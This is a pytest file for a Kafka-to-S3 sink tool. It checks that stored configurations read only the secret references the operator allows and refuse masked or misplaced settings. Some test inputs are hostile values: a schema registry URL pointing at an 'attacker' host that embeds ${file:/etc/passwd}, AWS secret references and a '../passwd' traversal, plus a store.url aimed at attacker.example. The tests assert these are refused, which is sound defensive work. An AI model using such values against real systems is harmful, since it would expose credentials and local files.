"""A sink runs from its stored configuration: with its own references, in its own place, and never with a mask for a secret."""

from __future__ import annotations

import json
from collections.abc import Mapping
from dataclasses import replace
from pathlib import Path

import pytest

from kafka_s3.cli.arguments import Target, folder_options, stored_config_of
from kafka_s3.connect.config.references import STORED
from kafka_s3.connect.config.validate import resolved, validate
from kafka_s3.engine.control.stored_settings import replace_config
from kafka_s3.model.errors import ConfigError
from kafka_s3.run.wiring.bucket import SinkFolder, stored_config
from kafka_s3.store.memory import MemoryStore
from kafka_s3.store.options import StoreOptions
from tests.support.memory_world import BASE

SECRET = {"flush.size": "3", "aws.access.key.id": "AK", "aws.secret.access.key": "${env:STORED_SECRET}"}


@pytest.fixture
def target() -> Target:
    return Target(SinkFolder("bucket", "_kafka_s3", MemoryStore()), "orders")


def store(target: Target, config: Mapping[str, str], *, worker: Mapping[str, str] | None = None) -> None:
    settings = validate({**BASE, **config}, worker=worker or {}).usable()
    replace_config(target.store, target.paths, stored_config(settings, now_ms=0))


def test_references_of_a_stored_configuration_are_looked_up_where_it_runs(
    target: Target, monkeypatch: pytest.MonkeyPatch
) -> None:
    store(target, SECRET)
    monkeypatch.setenv("STORED_SECRET", "hidden")
    monkeypatch.setenv(STORED, "secrets:a/*, env:STORED_*")
    secret = resolved(stored_config_of(target, None).usable()).secret("aws.secret.access.key")
    assert secret is not None
    assert secret.reveal() == "hidden"
    monkeypatch.delenv("STORED_SECRET")
    with pytest.raises(ConfigError, match=r"STORED_SECRET is not set\. Set the variable for the process"):
        resolved(stored_config_of(target, None).usable())


def test_a_stored_configuration_has_its_workers_settings_and_takes_overrides(target: Target) -> None:
    worker = {"value.converter": "org.apache.kafka.connect.storage.StringConverter"}
    given = {key: text for key, text in BASE.items() if not key.startswith("value.converter")}
    settings = validate({**given, "flush.size": "3"}, worker=worker).usable()
    replace_config(target.store, target.paths, stored_config(settings, now_ms=0))
    found = stored_config_of(target, ["flush.size=7"]).usable()
    assert (found.text("value.converter"), found.number("flush.size")) == ("string", 7)


@pytest.mark.parametrize(
    ("reference", "allowed"),
    [
        ("${env:HOME}", ""),
        ("${env:AWS_SECRET_ACCESS_KEY}", "env:KAFKA_*"),
        ("${file:/etc/passwd}", "env:*"),
        ("${file:/etc/kafka/../passwd}", "file:/etc/kafka/*"),
        ("${file:/etc/passwd:root}", "file:/etc/kafka/*,file:/etc/passwd"),
        ("${secrets:kafka/password}", ""),
        ("${secret:kafka/password}", "secrets:other/*"),
    ],
)
def test_a_stored_configuration_reads_nothing_of_this_machine_that_its_operator_has_not_allowed(
    target: Target, monkeypatch: pytest.MonkeyPatch, reference: str, allowed: str
) -> None:
    monkeypatch.setenv("KAFKA_S3_SECRET_KAFKA_PASSWORD", "of this machine")
    monkeypatch.setenv(STORED, allowed)
    config = {**BASE, "value.converter.schema.registry.url": f"http://attacker:8081/{reference}"}
    document = {"name": "orders", "created_at": "", "product": "", "config": config, "worker": {}}
    target.store.put(target.paths.config(), json.dumps(document).encode())
    with pytest.raises(
        ConfigError, match=r"this machine does not look up.*let the operator set KAFKA_S3_STORED_REFERENCES="
    ):
        stored_config_of(target, None)
    document["worker"] = {"value.converter": BASE["value.converter"], "value.converter.x": reference}
    document["config"] = {key: text for key, text in BASE.items() if not key.startswith("value.converter")}
    target.store.put(target.paths.config(), json.dumps(document).encode())
    with pytest.raises(ConfigError, match="this machine does not look up"):
        stored_config_of(target, None)


def test_what_the_operator_sets_on_the_command_line_is_looked_up_here(
    target: Target, monkeypatch: pytest.MonkeyPatch
) -> None:
    store(target, SECRET)
    monkeypatch.setenv("STORED_SECRET", "hidden")
    with pytest.raises(ConfigError, match="env:STORED_SECRET"):
        stored_config_of(target, None)
    given = ["aws.secret.access.key=${env:STORED_SECRET}"]
    assert resolved(stored_config_of(target, given).usable()).secret("aws.secret.access.key") is not None


LOGIN = {
    "consumer.override.security.protocol": "SASL_SSL",
    "consumer.override.sasl.mechanism": "OAUTHBEARER",
    "consumer.override.sasl.jaas.config": (
        "org.apache.kafka.common.security.oauthbearer.OAuthBearerLoginModule required "
        'clientId="a" clientSecret="${secrets:a/b}";'
    ),
    "consumer.override.sasl.oauthbearer.token.endpoint.url": "https://tokens.example/token",
}


def test_the_workers_part_of_a_stored_configuration_names_no_token_service_but_a_worker_file_does(
    target: Target, tmp_path: Path
) -> None:
    document = {
        "name": "orders",
        "created_at": "",
        "product": "",
        "config": {**BASE, "flush.size": "3"},
        "worker": LOGIN,
    }
    target.store.put(target.paths.config(), json.dumps(document).encode())
    with pytest.raises(ConfigError, match=r"only the operator's worker file may set it.*--worker"):
        stored_config_of(target, None).usable()
    worker = tmp_path / "worker.properties"
    worker.write_text(
        "".join(f"{key.replace('consumer.override.', 'consumer.')}={text}\n" for key, text in LOGIN.items())
    )
    found = stored_config_of(target, None, worker).usable()
    assert found.text("consumer.override.sasl.oauthbearer.token.endpoint.url") == "https://tokens.example/token"


def test_a_stored_configuration_sends_no_signed_request_to_another_store(target: Target) -> None:
    store(target, {"flush.size": "3", "store.url": "https://attacker.example"})
    with pytest.raises(ConfigError, match="is not the store that the configuration lies in, AWS"):
        stored_config_of(target, None)
    there = replace(target, folder=replace(target.folder, endpoint="https://attacker.example/"))
    assert stored_config_of(there, None).usable().name == "orders"


def test_a_masked_secret_is_refused_with_the_way_to_give_it(target: Target, monkeypatch: pytest.MonkeyPatch) -> None:
    store(target, SECRET)
    document = json.loads(target.store.get(target.paths.config()))
    document["config"]["aws.secret.access.key"] = "****"
    target.store.put(target.paths.config(), json.dumps(document).encode())
    with pytest.raises(
        ConfigError, match=r"aws\.secret\.access\.key .*the secret is not there.*create CONFIG --replace"
    ):
        stored_config_of(target, None).usable()
    monkeypatch.setenv("STORED_SECRET", "hidden")
    given = resolved(stored_config_of(target, ["aws.secret.access.key=${env:STORED_SECRET}"]).usable())
    assert given.secret("aws.secret.access.key") is not None


def test_a_sink_without_a_stored_configuration_says_how_to_store_one(target: Target) -> None:
    with pytest.raises(
        ConfigError, match=r"has no stored configuration in s3://bucket/_kafka_s3/orders/.*kafka-s3 create"
    ):
        stored_config_of(target, None).usable()


@pytest.mark.parametrize("moved", ["name=payments", "s3.bucket.name=other", "state.prefix=elsewhere"])
def test_a_configuration_that_belongs_elsewhere_is_refused(target: Target, moved: str) -> None:
    store(target, {"flush.size": "3"})
    with pytest.raises(ConfigError, match="not that of the stored configuration's own place"):
        stored_config_of(target, [moved]).usable()


def test_the_words_for_a_place_hold_what_is_not_the_default() -> None:
    place = SinkFolder("lake", "_kafka_s3", MemoryStore())
    assert folder_options(place, StoreOptions("lake")) == "--bucket lake"
    there = StoreOptions("lake", region="eu-central-1", endpoint_url="http://minio:9000")
    assert folder_options(SinkFolder("lake", "a b", MemoryStore()), there) == (
        "--bucket lake --store-url http://minio:9000 --region eu-central-1 --state-prefix 'a b'"
    )
